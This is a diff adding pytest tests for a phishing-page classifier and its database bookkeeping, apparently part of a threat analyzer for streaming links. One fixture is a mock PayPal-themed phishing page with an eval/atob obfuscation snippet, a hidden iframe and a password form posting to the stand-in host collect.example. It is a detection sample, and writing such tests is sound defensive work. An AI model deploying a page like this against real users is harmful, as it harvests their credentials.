@@ -0,0 +1,64 @@
+# tests/test_phishing.py
+
+import time
+
+import pytest
+
+from src.fls_analyzer import db_handler, phishing
+
+# The classifier must keep up with the threat analyzer's visits with room to spare
+MIN_PAGES_PER_SECOND = 1000
+
+PHISHING_PAGE = (
+    '<html><head><title>Watch UCL live - PayPal account check</title>'
+    '<script>var a = eval(atob("eA=="));</script></head><body>'
+    + '<div class="player">stream link, lorem ipsum dolor sit amet</div>' * 600
+    + '<form action="https://collect.example/post.php"><input type="password" name="p">'
+      'Sign in to verify your account</form><iframe style="display:none"></iframe></body></html>'
+)
+PLAIN_PAGE = '<html><head><title>Match day</title></head><body>' + '<p>highlights</p>' * 2000 + '</body></html>'
+
+
+@pytest.fixture
+def session(tmp_path, monkeypatch):
+    monkeypatch.setenv(db_handler.DATABASE_URL_ENV, f"sqlite:///{tmp_path / 'fls.db'}")
+    db_handler.init_db()
+    session = db_handler.get_session()
+    db_handler.insert_new_urls(session, ['https://login-check.example/watch'], event_id=1, aggregator_id=None)
+    session.commit()
+    yield session
+    session.close()
+
+
+def test_default_model_separates_a_credential_form_from_a_plain_page():
+    model = phishing.load_model(path='/nonexistent')
+    scores = model.score_pages([(PHISHING_PAGE, 'http://login-check.example/w'),
+                                (PLAIN_PAGE, 'https://streams.example/w')])
+    assert scores[0] >= model.threshold > scores[1]
+
+
+def test_scores_thousands_of_pages_per_second():
+    model = phishing.load_model(path='/nonexistent')
+    pages = [(PHISHING_PAGE if i % 2 else PLAIN_PAGE, f'http://s{i}.streams.example/watch')
+             for i in range(2000)]
+    started = time.perf_counter()
+    scores = model.score_pages(pages)
+    rate = len(pages) / (time.perf_counter() - started)
+    print(f"{rate:.0f} pages/s on {len(PHISHING_PAGE) // 1024} KB pages")
+    assert len(scores) == len(pages)
+    assert rate >= MIN_PAGES_PER_SECOND
+
+
+def test_phishing_score_alone_does_not_count_as_analyzed(session):
+    url_id = db_handler.get_url_ids(session, ['https://login-check.example/watch'])['https://login-check.example/watch']
+    record = db_handler.record_phishing_result(session, url_id, 0.9, True)
+    session.commit()
+    assert record.is_phishing and record.vt_score is None
+    summary = session.query(db_handler.ThreatSummary).one()
+    assert summary.phishing_count == 1 and summary.analyzed_count == 0
+
+    # A later, lower score clears the classifier's flag
+    db_handler.record_phishing_result(session, url_id, 0.1, False)
+    session.commit()
+    summary = session.query(db_handler.ThreatSummary).one()
+    assert summary.phishing_count == 0